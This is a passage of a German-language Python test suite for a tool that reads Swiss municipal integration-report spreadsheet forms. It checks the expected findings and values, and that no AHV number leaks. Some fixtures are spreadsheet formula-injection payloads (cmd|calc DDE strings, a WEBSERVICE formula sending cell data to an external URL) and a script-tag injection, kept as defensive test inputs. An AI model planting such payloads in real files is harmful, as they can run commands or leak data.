    "AHV-Nummer und leeres Formular": [f30("D21"), F10],
    "Keine AHV-Nummer: falsche Prüfziffer": [],
    "Keine AHV-Nummer: Artikel einer Liste": [],
    "Keine AHV-Nummer: längere Nummer": [],
    "Text wie eine Formel": [],
    "Text wie ein Befehl": [],
    "Text wie eine alte Formel": [],
    "Formel mit Befehl": [E17, f27("C59", "Bemerkungen", "ein Bezug auf eine andere Datei (=cmd|'/c calc'!A0)")],
    "Formel mit Webadresse": [
        e37("Formeln, die nach aussen führen oder Programme aufrufen"),
        f27("C59", "Bemerkungen", 'ein Bezug auf eine andere Datei (=WEBSERVICE("https://example.ch/?q="&C9))'),
    ],
    "Text mit Markierungen": [],
}  # fmt: skip

# --- name → what differs from the form without a mistake ---------------------------------------
ANDERS: dict[str, dict[str, object]] = {
    "Durchgestrichene Ziffern": {"erst_personen": 20},
    "Zahl mit geradem Apostroph": {"erst_personen": 3000},
    "Zahl mit typografischem Apostroph": {"erst_personen": 3000},
    "Zahl mit geschütztem Leerschlag": {"erst_personen": 1200},
    "Zahl mit schmalem Leerschlag": {"erst_personen": 1200},
    "Zahl mit Strich wie ein Betrag": {"erst_personen": None},
    "Höchste Anzahl": {"erst_personen": 9999},
    "Zahl in wissenschaftlicher Schreibweise": {"erst_personen": 1000},
    "Fehlerwert ohne Beitrag": {"erst_personen": None},
    **{
        name: {"erst_einzelpersonen": None}
        for name in (
            "Zahl mit Apostroph davor", "Zahl mit «ca.»", "Zahl in Worten", "Zahl mit Einheit", "Strich statt Null",
            "Negative Anzahl", "Halbes Gespräch", "Riesige Anzahl", "Text in wissenschaftlicher Schreibweise",
            "Prozent in einer Anzahl", "Datum in einer Anzahl", "Datum als Text in einer Anzahl",
            "Uhrzeit in einer Anzahl", "Formel ohne Ergebnis", "Formel aus einer anderen Datei", "Bezugsfehler",
            "Nicht vorhanden", "Division durch null", "Nur Leerschläge", "WAHR in einer Anzahl",
        )
    },
    "Datum mit Schrägstrichen am 31.": {"datum": date(2024, 7, 31)},
    "Datum mit Schrägstrichen": {"datum": None},
    "Gemeinsame Formel": {"erst_familien": 8},
    "FALSCH statt Nein": {"bestaetigung": False},
    "j statt Ja": {"bestaetigung": None},
    "x statt Ja": {"bestaetigung": None},
    "1 statt Ja": {"bestaetigung": None},
    "Nein mit Punkt": {"nullmeldung": None},
    "Auswahl ausserhalb der Liste": {"aufgabe_1": None},
    "Pensum 10": {"beauftragte_pensum": Decimal("0.1")},
    "Pensum 1.5": {"beauftragte_pensum": Decimal("1.5")},
    "Betrag, der vieles heissen kann": {"aufwand_franken": None},
    "E-Mail mit zwei Adressen": {"kontakt_email": None},
    "Unbestätigt": {"bestaetigung": False},
    "Andere Gemeinde eingetragen": {"gemeinde": "Trimbach"},
    "Liste mit Summe daneben": {"sprachen": (("Tigrinya", 4), ("Arabisch", 3))},
    "Liste mit Einheit": {"sprachen": (("Tigrinya", None), ("Arabisch", 2))},
    "Felder untereinander verbunden": {"erst_familien": None},
    "Zwei Felder auf einer Zelle": {"erst_einzelpersonen": 3},
    "Liste über einem Feld": {"datum": None},
    "Felder vertauscht": {"erst_einzelpersonen": 3, "erst_familien": 8},
    "Spalten vertauscht": {"erst_gruppen": 0, "integ_gruppen": 1},
    "Gleich beschriftete Felder vertauscht": {"erst_familien": 1, "erst_dolmetsch_familien": 3},
    "Feld auf einer Beschriftung": {"erst_familien": None},
    "Feld auf der Kopie": {"erst_familien": 5},
    "Liste mit ihren Titeln": {"sprachen": (("Sprache", None), ("Tigrinya", 4), ("Arabisch", 2))},
    "Liste ohne ihre letzten Zeilen": {"sprachen": (("Tigrinya", 4),)},
    "Werte daneben eingefügt": {"erst_einzelpersonen": None, "erst_familien": None, "erst_gruppen": None},
    "AHV-Nummer in den Bemerkungen": {"bemerkungen": "Frau X, [AHV-Nummer], umgezogen"},
    "AHV-Nummer mit Leerschlägen": {"bemerkungen": "[AHV-Nummer]"},
    "AHV-Nummer mit Strichen": {"bemerkungen": "[AHV-Nummer]"},
    **{f"AHV-Nummer mit {x}": {"bemerkungen": "[AHV-Nummer]"} for x in ("Unterstrichen", "Kommas", "Buchstaben O")},
    "AHV-Nummer ohne Zeichen": {"bemerkungen": "[AHV-Nummer]"},
    "AHV-Nummer in einer Anzahl": {"erst_personen": None},
    "AHV-Nummer im Feld und daneben": {"bemerkungen": "[AHV-Nummer]"},
    "Text wie eine Formel": {"bemerkungen": '=HYPERLINK("https://example.ch";"hier")'},
    "Text wie ein Befehl": {"kontakt_name": "+cmd|'/c calc'!A0"},
    "Text wie eine alte Formel": {"kontakt_funktion": "@SUM(1+1)"},
    "Formel mit Befehl": {"bemerkungen": None},
    "Formel mit Webadresse": {"bemerkungen": None},
    "Text mit Markierungen": {"bemerkungen": "<script>alert(1)</script> & \u202egedreht"},
}  # fmt: skip
LEERE = {"Leer zurück", "Leer zurück mit Makros", "AHV-Nummer und leeres Formular"}
ANHANG3 = {
    "Anhang 3 ohne Fehler", "Auswahl gross geschrieben", "Auswahl ausserhalb der Liste", "Pensum als Text",
    "Pensum in Prozentpunkten", "Pensum 10", "Pensum 1.5", "Betrag mit Währung", "Betrag mit Franken dahinter",
    "Betrag, der vieles heissen kann", "Kennung als Zahlen", "Kennung mit Kommastellen",
}  # fmt: skip
GUT2: dict[str, object] = {
    "gemeinde": "Olten", "bfs_nr": 2581, "periode": "2024-H1",
    "kontakt_name": "Anna Muster", "kontakt_funktion": "Integrationsbeauftragte",
    "kontakt_email": "anna.muster@example.ch", "kontakt_telefon": "032 123 45 67", "datum": date(2024, 7, 10),
    "nullmeldung": False, "erst_einzelpersonen": 8, "erst_familien": 3, "erst_gruppen": 1,
    "erst_dolmetsch_einzelpersonen": 4, "erst_dolmetsch_familien": 1, "erst_dolmetsch_gruppen": 0,
    "erst_dolmetsch_andere": 0, "erst_personen": 19, "erst_neuzugezogene": 30, "erst_schweizer": 0,
    "erst_sozialregion": 0, "integ_einzelpersonen": 2, "integ_familien": 0, "integ_gruppen": 0,
    "integ_dolmetsch_einzelpersonen": 1, "integ_dolmetsch_familien": 0, "integ_dolmetsch_gruppen": 0,
    "integ_dolmetsch_andere": 0, "integ_personen": 2, "integ_sozialregion": 0,
    "integ_durch_verantwortliche": True, "integ_nachweis": True, "sozialregion_dossier": None,
    "sprachen": (("Tigrinya", 4), ("Arabisch", 2)),
    "bemerkungen": "Grüsse aus «Olten» & Umgebung", "bestaetigung": True,
}  # fmt: skip
GUT3: dict[str, object] = {
    "gemeinde": "Olten", "bfs_nr": 2581, "jahr": 2024, "auslaender_anzahl": Decimal(6000),
    "kontakt_name": "Anna Muster", "kontakt_funktion": "Integrationsbeauftragte",
    "kontakt_email": "anna.muster@example.ch", "kontakt_telefon": "032 123 45 67", "datum": date(2024, 1, 20),
    "bedingung_organisation": True, "bedingung_beauftragte": True, "bedingung_umsetzung": True,
    "beauftragte_name": "Anna Muster", "beauftragte_email": "anna.muster@example.ch",
    "beauftragte_telefon": "032 123 45 67", "beauftragte_pensum": Decimal("0.2"), "leitgemeinde_modell": False,
    **{f"aufgabe_{n}": "erfüllt" for n in range(1, 7)}, "sozialregion_delegation": "keine",
    "leistungsvertraege": (("Verein Brücke", "Aufgabe 4", Decimal(5000)),),
    "kurse_besucht": True, "vernetzung_besucht": True, "aufwand_stunden": Decimal(120),
    "aufwand_franken": Decimal(9000), "bestaetigung": True,
}  # fmt: skip


def erwartete_werte(name: str) -> dict[str, object]:
    """Return what must be read from a file that is a form: everything that is filled in."""
    if name in LEERE:
        return {"gemeinde": "Olten", "bfs_nr": 2581, "periode": "2024-H1"}
    alle = (GUT3 if name in ANHANG3 else GUT2) | ANDERS.get(name, {})
    return {k: w for k, w in alle.items() if w is not None}


def pruefe(name: str, ergebnis: Ergebnis) -> None:
    """See that a file gave its Befunde, its values, and no AHV number."""
    assert [(b.code, b.zelle, b.meldung) for b in ergebnis.befunde] == ERWARTET[name]
    abgewiesen = any(code.startswith("E-") and code < "E-16" for code, _, _ in ERWARTET[name])
    assert ergebnis.werte == ({} if abgewiesen else erwartete_werte(name))
    assert AHV not in repr(ergebnis)
    assert AHV.replace(".", "") not in repr(ergebnis)


def test_jede_datei_hat_ihr_erwartetes_ergebnis() -> None:
    assert list(dateien()) == list(ERWARTET)
    assert set(ANDERS) | LEERE | ANHANG3 <= set(ERWARTET)


@pytest.mark.parametrize("name", ERWARTET)
def test_eine_ungeschickte_oder_boese_datei_gibt_genau_diese_befunde(name: str) -> None:
    pruefe(name, urteile(*dateien()[name]))


@pytest.mark.parametrize("name", ["Blatt in der Mappe kopiert", "Blatt einer anderen Gemeinde dazu"])
def test_ein_zweites_formular_betrifft_alle_ansprueche_und_makros_keinen(name: str) -> None:
    ansprueche = {b.code: b.ansprueche for b in urteile(*dateien()[name]).befunde}
    assert ansprueche == {"E-18": {"erst", "erst_dolmetsch", "integ", "integ_dolmetsch"}}
    daneben = urteile(*dateien()["Makros und Verknüpfungen"]).befunde
    assert [(b.stufe, b.ansprueche) for b in daneben] == [("Hinweis", frozenset())] * 2
